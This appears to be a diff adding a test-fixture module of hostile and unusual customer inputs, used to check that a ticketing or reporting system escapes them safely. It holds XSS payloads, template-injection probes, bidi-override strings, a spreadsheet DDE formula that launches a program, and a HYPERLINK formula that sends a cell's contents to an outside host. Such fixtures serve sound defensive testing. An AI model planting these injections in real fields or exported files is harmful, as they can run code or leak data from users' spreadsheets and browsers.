@@ -1,0 +1,35 @@
+"""What customers may write into a subject or comment, by name: hostile, odd, long, and in every script."""
+
+from __future__ import annotations
+
+PAYLOADS = {
+    "script": "<script>document.title='script ran'</script>",
+    "image": "<img src=x onerror=\"document.title='image ran'\">",
+    "svg": "<svg/onload=\"document.title='svg ran'\">",
+    "out of the cell": "</td></tr></table></main><script>document.title='cell ran'</script>",
+    "out of the attribute": "\"' autofocus onfocus=\"document.title='focus ran'\" x=\"",
+    "foreign picture": '<img src="https://example.com/pixel.png">',
+    "foreign style": "<style>@import 'https://example.com/x.css';body{display:none}</style>",
+    "frame": "<iframe srcdoc=\"<script>parent.document.title='frame ran'</script>\"></iframe>",
+    "link": '<a href="javascript:document.title=1">click</a> [click](javascript:alert(1))',
+    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
+    "template": "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %> {alt}",
+    "markdown": "# heading\n![x](https://example.com/x.png)\n| a | b |\n|---|---|",
+    "formula": '=HYPERLINK("https://example.com/?"&A1,"open")',
+    "formula of a program": "=cmd|' /C calc'!A0",
+    "plus": "+1+1", "minus": "-1+1", "at": "@SUM(A1:A9)", "tab": "\t=1+1", "return": "\r=1+1", "full width": "＝1+1",
+    "formula behind a turn": "\u202e=1+1", "formula behind a joiner": "\u200d\u2060=1+1",
+    "new row": "fine\r\n=1+1,=2+2\r=3+3", "quotes": 'He said ""no"", =1+1, "', "semicolons": "a;=1+1;b",
+    "right to left override": "safe \u202e00.01 \u2066\u202edna 5 fo 1\u2069 end",
+    "unclosed isolate": "\u2067\u202b start \u200f \u061c marks",
+    "nul and escapes": "a\x00b\x07c\x1b[31md\x7fe\x9bf", "line separators": "a\u2028b\u2029c\x0bd\x0ce",
+    "math": r"$\frac{1}{0}$ costs 5$ and 6$ \( x \)", "percent": "100 % %s %d {} {0} \\n",
+    "arabic": "لم يتم حل المشكلة", "hebrew": "הבעיה לא נפתרה",
+    "hindi": "समस्या हल नहीं हुई", "thai": "ปัญหายังไม่ได้รับการแก้ไข",
+    "chinese": "问题没有解决", "japanese": "問題は解決しませんでした",
+    "korean": "문제가 해결되지 않았습니다", "greek": "Το πρόβλημα δεν λύθηκε",
+    "cyrillic": "Проблема не решена", "georgian": "პრობლემა არ მოგვარდა",
+    "amharic": "ችግሩ አልተፈታም", "tamil": "சிக்கல் தீர்க்கப்படவில்லை",
+    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 😡", "combining": "Z̷̢̛a̸̛͓l̷̰͘g̴̜̕o̵̗͝", "beyond the basic plane": "𝒜𐍈𠜎",
+    "long": "long " * 2000, "one long word": "W" * 10_000,
+}  # fmt: skip
